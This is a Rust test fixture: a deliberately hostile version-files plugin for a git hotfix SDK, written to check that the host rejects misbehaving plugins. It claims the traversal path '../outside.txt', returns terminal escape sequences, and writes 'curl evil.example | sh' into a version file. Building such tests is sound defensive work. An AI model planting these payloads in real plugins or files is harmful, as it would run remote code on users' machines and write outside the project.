//! Hostile: a version-files policy whose answers cannot be right, one way per file it is
//! given: it claims a file it was not given, reads a version that is none, writes text
//! that is no version (with terminal escapes), and writes a version it then reads back as
//! another. The host must refuse each before anything is written.
use git_hotfix_plugin_sdk::*;
struct LyingVersions;
impl VersionFilesPolicy for LyingVersions {
    fn detect(paths: Vec<String>) -> Vec<String> {
        let mut handled = paths.clone();
        if paths.iter().any(|p| p == "claims.txt") {
            handled.push("../outside.txt".into());
        }
        handled
    }
    fn read_version(file: File) -> Result<String, PluginError> {
        Ok(match file.path.as_str() {
            "banana.txt" => "banana\x1b[2J".into(),
            // Reads back the old version whatever was written.
            "stuck.txt" => "1.2.3".into(),
            _ => file.content.trim().to_string(),
        })
    }
    fn write_version(file: File, version: String) -> Result<String, PluginError> {
        Ok(match file.path.as_str() {
            "escapes.txt" => "oops\x1b[2J\n".into(),
            "more.txt" => format!("{version}\ncurl evil.example | sh\n"),
            _ => file.content.replace(file.content.trim(), &version),
        })
    }
}
export_version_files_policy!(LyingVersions);
